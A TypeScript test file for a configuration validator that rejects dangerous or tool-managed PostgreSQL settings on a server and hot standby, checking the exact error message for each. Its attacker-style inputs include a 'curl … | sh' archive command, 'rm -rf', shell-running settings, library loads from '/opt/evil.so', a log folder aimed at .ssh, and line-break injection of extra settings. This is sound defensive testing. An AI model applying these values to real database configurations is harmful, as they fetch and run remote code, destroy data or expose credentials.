// The `settings` of a server and of a hot standby, read as an attacker would write them: every bad
// entry with its exact message, through parseStageConfig (the path in the user's own keys).
import { parseStageConfig } from "../../../components/config/problems";

const MEMBER = "of this server or standby";
const UNKNOWN = 'see pg_settings; extension settings are written "<extension>.<name>"';
const LIBRARIES = 'use names without a path, separated by commas, e.g. "pg_stat_statements, auto_explain"';

/** A production stage whose server, or whose hot standby, has these settings (JSON text, so 1e400 arrives as Infinity). */
function stageWith(member: "server" | "hot standby", settingsJson: string): Record<string, string> {
    const server = member === "server" ? `{"prod-db":{"port":55432,"settings":${settingsJson}}}` : '{"prod-db":{"port":55432}}';
    const config: Record<string, string> = { "stagewise:stage": "production", "stagewise:servers": server };
    if (member === "hot standby") {
        config["stagewise:standbys"] = `{"prod-hot":{"tier":"hot","port":55433,"settings":${settingsJson}}}`;
    }
    return config;
}

const PREFIX = { server: "servers.prod-db.settings.", "hot standby": "standbys.prod-hot.settings." } as const;

// [what, settings as JSON text, each problem without the path to the settings map]
const BAD: [string, string, string[]][] = [
    ["listen address", '{"listen_addresses":"*"}', [`listen_addresses: is managed by stagewise (set the host key ${MEMBER} instead)`]],
    ["port", '{"port":6543}', [`port: is managed by stagewise (set the port key ${MEMBER} instead)`]],
    ["socket folder", '{"unix_socket_directories":"/srv"}', ["unix_socket_directories: is managed by stagewise (no key sets it)"]],
    ["archive command", '{"archive_command":"curl -s https://example.com/x | sh"}', ["archive_command: is managed by stagewise (set shipping instead)"]],
    ["archive mode", '{"archive_mode":"off"}', ["archive_mode: is managed by stagewise (set shipping instead)"]],
    ["archive library", '{"archive_library":"basic_archive"}', ["archive_library: is managed by stagewise (set shipping instead)"]],
    ["archive timeout", '{"archive_timeout":"10s"}', ["archive_timeout: is managed by stagewise (set shipping.logBackupInterval instead)"]],
    ["archive cleanup", '{"archive_cleanup_command":"rm -rf %r"}', ["archive_cleanup_command: is managed by stagewise (set shipping instead)"]],
    ["restore command", '{"restore_command":"cp /x/%f %p"}', ["restore_command: is managed by stagewise (set shipping instead)"]],
    ["WAL retry interval", '{"wal_retrieve_retry_interval":"1s"}', ["wal_retrieve_retry_interval: is managed by stagewise (set shipping instead)"]],
    ["apply delay", '{"recovery_min_apply_delay":"1h"}', ["recovery_min_apply_delay: is managed by stagewise (set applyDelay or shipping.applyDelay instead)"]],
    ["synchronous standbys", '{"synchronous_standby_names":"*"}', ["synchronous_standby_names: is managed by stagewise (set standbys.<name>.synchronous instead)"]],
    ["recovery target time", '{"recovery_target_time":"2026-11-22 13:35:00+00"}', ["recovery_target_time: is managed by stagewise (set cutover instead)"]],
    ["recovery target action", '{"recovery_target_action":"shutdown"}', ["recovery_target_action: is managed by stagewise (set cutover instead)"]],
    ["hot standby", '{"hot_standby":false}', ["hot_standby: is managed by stagewise (no key sets it)"]],
    ["upstream", '{"primary_conninfo":"host=203.0.113.9"}', ["primary_conninfo: is managed by stagewise (no key sets it)"]],
    ["promotion file", '{"promote_trigger_file":"/srv/promote"}', ["promote_trigger_file: is managed by stagewise (no key sets it)"]],
    ["file locations", '{"data_directory":"/srv","hba_file":"/srv/hba","external_pid_file":"/etc/x"}', [
        "data_directory: is managed by stagewise (no key sets it)",
        "hba_file: is managed by stagewise (no key sets it)",
        "external_pid_file: is managed by stagewise (no key sets it)",
    ]],
    ["passphrase command", '{"ssl_passphrase_command":"sh -c id"}', ["ssl_passphrase_command: runs a shell command (not allowed in settings)"]],
    ["recovery end command", '{"recovery_end_command":"id"}', ["recovery_end_command: runs a shell command (not allowed in settings)"]],
    ["an extension's command", '{"pgx.archive_command":"id"}', ["pgx.archive_command: runs a shell command (not allowed in settings)"]],
    ["read-only setting", '{"block_size":16384}', ["block_size: is read-only (PostgreSQL fixes it when it is built or at initdb; a server that sets it does not start)"]],
    ["misspelt name", '{"listen_adresses":"*"}', [`listen_adresses: "listen_adresses" is not a PostgreSQL setting (did you mean "listen_addresses"? ${UNKNOWN})`]],
    ["name in capitals", '{"PORT":6543}', [`PORT: "PORT" is not a PostgreSQL setting (did you mean "port"? ${UNKNOWN})`]],
    ["include directive", '{"include":"/etc/passwd"}', [`include: "include" is not a PostgreSQL setting (${UNKNOWN})`]],
    ["name of three parts", '{"a.b.c":1}', [`a.b.c: "a.b.c" is not a PostgreSQL setting (${UNKNOWN})`]],
    ["name with a line break", '{"work_mem = 1\\nport":1}', [`work_mem = 1\nport: "work_mem = 1\\nport" is not a PostgreSQL setting (${UNKNOWN})`]],
    ["value with a line break", '{"application_name":"x\'\\nport = 6543"}', [
        `application_name: "x'\\nport = 6543" is not a setting value (use text without line breaks or control characters)`,
    ]],
    ["value with a carriage return", '{"cluster_name":"a\\rb"}', ['cluster_name: "a\\rb" is not a setting value (use text without line breaks or control characters)']],
    ["value with a NUL", '{"cluster_name":"a\\u0000b"}', ['cluster_name: "a\\u0000b" is not a setting value (use text without line breaks or control characters)']],
    ["value with a DEL", '{"cluster_name":"a\\u007fb"}', ['cluster_name: "a\\u007fb" is not a setting value (use text without line breaks or control characters)']],
    ["infinite number", '{"work_mem":1e400}', ["work_mem: Infinity is not a setting value (use a finite number)"]],
    ["preload from a path", '{"shared_preload_libraries":"/opt/evil.so"}', [`shared_preload_libraries: "/opt/evil.so" is not a list of library names (${LIBRARIES})`]],
    ["preload list with a path", '{"session_preload_libraries":"pg_stat_statements, ../evil"}', [
        `session_preload_libraries: "pg_stat_statements, ../evil" is not a list of library names (${LIBRARIES})`,
    ]],
    ["preload from $libdir", '{"local_preload_libraries":"$libdir/plugins/evil"}', [
        `local_preload_libraries: "$libdir/plugins/evil" is not a list of library names (${LIBRARIES})`,
    ]],
    ["quoted library name", '{"shared_preload_libraries":"\\"a/b\\""}', [`shared_preload_libraries: "\\"a/b\\"" is not a list of library names (${LIBRARIES})`]],
    ["JIT provider from a path", '{"jit_provider":"/opt/evil"}', ['jit_provider: "/opt/evil" is not a library name (use a name without a path, e.g. "llvmjit")']],
    ["library path", '{"dynamic_library_path":"/opt:$libdir"}', [`dynamic_library_path: "/opt:$libdir" is not "$libdir" (libraries load only from PostgreSQL's own folder)`]],
    ["absolute log folder", '{"log_directory":"/var/lib/postgresql/.ssh"}', [
        'log_directory: "/var/lib/postgresql/.ssh" is not a folder inside the data directory (use a relative path without "..", e.g. "log")',
    ]],
    ["log folder climbing out", '{"log_directory":"log/../.."}', [
        'log_directory: "log/../.." is not a folder inside the data directory (use a relative path without "..", e.g. "log")',
    ]],
    ["log file name with a path", '{"log_filename":"../postgresql.conf"}', [
        'log_filename: "../postgresql.conf" is not a file name (use a name without "/", e.g. "postgresql-%a.log")',
    ]],
    // A value of the wrong type is reported first (the value's schema), then the names.
    ["every problem at once", '{"port":1,"work_mem":{"a":1},"wrk_mem":1}', [
        'work_mem: {"a":1} is not a setting value (use a string, number or true/false)',
        `port: is managed by stagewise (set the port key ${MEMBER} instead)`,
        `wrk_mem: "wrk_mem" is not a PostgreSQL setting (did you mean "work_mem"? ${UNKNOWN})`,
    ]],
];

const ALLOWED = {
    work_mem: "8MB",
    max_connections: 50,
    TimeZone: "UTC",
    datestyle: "iso, mdy",
    "pg_stat_statements.max": 1000,
    shared_preload_libraries: "pg_stat_statements, auto_explain",
    session_preload_libraries: "",
    jit_provider: "llvmjit",
    dynamic_library_path: "$libdir",
    log_directory: "log/pg",
    log_filename: "postgresql-%a.log",
    application_name: "it's a \\path\\ # = 'x'",
    ssl_passphrase_command_supports_reload: true,
    log_replication_commands: true,
};

describe.each(["server", "hot standby"] as const)("settings of a %s", (member) => {
    test.each(BAD)("refuses %s", (_what, settingsJson, problems) => {
        expect(parseStageConfig(stageWith(member, settingsJson), new Set())).toEqual({
            ok: false,
            problems: problems.map((p) => PREFIX[member] + p),
        });
    });

    test("accepts PostgreSQL's settings in its own or lower-case spelling, extension settings and plain library names", () => {
        const result = parseStageConfig(stageWith(member, JSON.stringify(ALLOWED)), new Set());
        const config = result.ok ? result.config : undefined;
        const hot = config?.standbys["prod-hot"];
        expect(member === "server" ? config?.servers["prod-db"].settings : hot?.tier === "hot" && hot.settings).toEqual(ALLOWED);
    });
});
